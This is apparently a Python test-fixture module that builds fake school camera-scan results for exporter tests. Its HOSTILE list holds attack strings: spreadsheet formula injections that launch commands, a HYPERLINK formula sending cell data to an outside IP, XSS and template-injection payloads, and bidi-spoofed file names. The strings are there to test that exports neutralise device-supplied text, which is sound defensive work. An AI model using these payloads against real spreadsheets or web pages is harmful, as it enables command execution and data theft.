"""Schools for the publishers' tests: every verdict, every action, and texts that attack."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from camagent.document.model import ScanDocument
from camagent.document.site_status import CameraStatus, camera_status
from camagent.document.write import camera_view, scan_document
from camagent.model.device import DeviceInformation
from camagent.model.finding import Action, Finding, Outcome, Setting, Severity, Verdict
from camagent.model.scan_result import CameraResult, Declaration, NotChecked, ScanResult
from camagent.model.text import Localised, message
from tests import builders

NAMES = ("Cổng chính", "Cổng phụ", "Sân trường", "Hành lang A1", "Phòng tin học", "Nhà xe", "Căng tin")
KINDS = (
    (Verdict.READY, Action.NONE, 25.0, Outcome.PASS),
    (Verdict.NOT_READY, Action.RECONFIGURE, 12.5, Outcome.FAIL),
    (Verdict.UNDETERMINED, Action.INVESTIGATE, None, Outcome.NOT_ASSESSED),
    (Verdict.NOT_READY, Action.REPLACE, 8.0, Outcome.FAIL),
    (Verdict.NOT_READY, Action.FIX_NETWORK, 15.0, Outcome.FAIL),
)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://203.0.113.9/?x="&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1＋1",
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "{{ 7 * 7 }}{% raw %}",
    "Cổng \u202egnp.exe\u2066\u200b\ufeff",
    "\x00\x07\x1b[31mred\x9b",
    "nul\ud800surrogate\ufffe",
    "Tru\u031bo\u031b\u0300ng".encode().decode(),
    "A" * 10_240,
    "a\u0301" * 5_000,
    "http://203.0.113.9/beacon",
    "line one\nline two\r\n=three",
    "",
)


def findings(outcome: Outcome, rate_hz: float | None) -> tuple[Finding, ...]:
    rate = builders.finding(
        outcome=outcome, observed=rate_hz, measured=rate_hz, message=message("faults.stalled")
    )
    size = builders.finding(
        rule="IMG-RES",
        title=Localised("Độ phân giải luồng chính", "Main-stream resolution"),
        observed=(2560, 1440),
        required=(1920, 1080),
        unit="px",
        configured=(2560, 1440),
        declared=(2560, 1440),
        measured=(2560, 1440),
        uncertainty=None,
        recommended=(2560, 1440),
        check="resolution",
    )
    manual = replace(
        size,
        rule="REC-MAX",
        outcome=Outcome.NOT_ASSESSED,
        manual=True,
        measured=None,
        observed=None,
        check="manual",
    )
    anonymous = replace(
        size,
        rule="SEC-ANON-RTSP",
        severity=Severity.BLOCKER,
        observed=False,
        required=True,
        unit=None,
        configured=None,
        declared=None,
        measured=None,
        recommended=None,
        basis=builders.basis(
            kind="named-doc", document="ONVIF Core", confidence="high", comparators=("a", "b")
        ),
    )
    return rate, size, manual, anonymous


def camera(number: int, **changes: Any) -> CameraResult:
    verdict, action, rate_hz, outcome = KINDS[number % len(KINDS)]
    watched = builders.measured_stream(frame_rate_hz=rate_hz) if rate_hz else builders.fault()
    main = builders.stream_facts(
        measured=watched,
        image=builders.image_facts(conditions=("blurred",) if action is Action.REPLACE else ()),
    )
    facts = builders.camera_facts(
        id=f"cam-{number:012d}",
        name=f"{NAMES[number % len(NAMES)]} {number + 1}",
        address=f"192.0.2.{number + 1}",
        device=builders.device_facts() if rate_hz else builders.fault(),
        streams=(main, builders.sub_stream()),
        declaration=Declaration(place=f"Tầng {number % 4 + 1}"),
    )
    raises_rate = action is Action.RECONFIGURE
    settings = (
        Setting("frame_rate", 12.5, 25.0, "Hz", "media2:SetVideoEncoderConfiguration token=E1", "main"),
    )
    upgrade = builders.upgrade(
        action=action,
        steps=() if action is Action.NONE else (message("faults.auth_rejected"),),
        certain=action is Action.NONE,
        settings=settings if raises_rate else (),
        cost_class="B" if action is Action.REPLACE else None,
        tender=message("faults.busy") if action is Action.REPLACE else None,
        bitrate_before_bps=2.9e6 if raises_rate else None,
        bitrate_after_bps=3.6e6 if raises_rate else None,
    )
    result = builders.camera_result(
        facts=facts, findings=findings(outcome, rate_hz), verdict=verdict, upgrade=upgrade
    )
    return replace(result, **changes)


def school(cameras: int = 10, **changes: Any) -> ScanResult:
    coverage = builders.coverage(
        devices_found=cameras + 2,
        cameras_checked=cameras,
        not_checked=(NotChecked("192.0.2.200", "not_a_camera"), NotChecked("192.0.2.201", "auth_rejected")),
        notes=("no_multicast_route",),
    )
    scan = builders.scan_result(cameras=tuple(camera(number) for number in range(cameras)), coverage=coverage)
    return replace(scan, **changes)


def hostile_school() -> ScanResult:
    """One camera for each attack, the attack in every text that a device or an inventory can supply."""
    cameras = []
    for number, text in enumerate(HOSTILE):
        base = camera(number % len(KINDS))
        device = builders.device_facts(information=DeviceInformation(text, text, text, text))
        facts = replace(
            base.facts,
            id=f"cam-{number:012d}",
            name=text,
            device=device,
            declaration=Declaration(place=text, task=text),
        )
        answered = replace(
            base.findings[0], observed=text, measured=text, configured=text, title=Localised(text, text)
        )
        cameras.append(replace(base, facts=facts, findings=(answered, *base.findings[1:])))
    site = builders.site(name=HOSTILE[0], area=HOSTILE[6])
    return replace(school(0), site=site, cameras=tuple(cameras))


def view(scan: ScanResult) -> ScanDocument:
    return scan_document(scan)


def plain(scan: ScanResult) -> dict[str, Any]:
    return scan_document(scan).plain()


def status(result: CameraResult) -> CameraStatus:
    """What the exporter shows of that result."""
    return camera_status(camera_view(result))
